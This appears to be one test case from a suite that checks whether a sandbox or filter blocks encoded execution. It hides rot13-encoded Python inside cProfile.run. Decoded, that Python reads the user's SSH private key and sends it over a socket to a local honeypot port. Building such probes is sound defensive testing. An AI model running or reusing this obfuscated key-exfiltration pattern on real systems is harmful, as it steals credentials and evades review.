# family: injection
# filterfamily: encoded-exec
# tries: hand rot13-encoded source to cProfile.run, which executes it; the payload sends the SSH key to the TCP honeypot
# source: none
# exfil: yes
import codecs
import cProfile

cProfile.run(codecs.decode("vzcbeg fbpxrg, flf; f = fbpxrg.perngr_pbaarpgvba(('127.0.0.1', vag(flf.neti[4]))); f.fraqnyy(bcra(flf.neti[2] + '/.ffu/vq_rq25519', 'eo').ernq()); f.pybfr()", "rot13"))
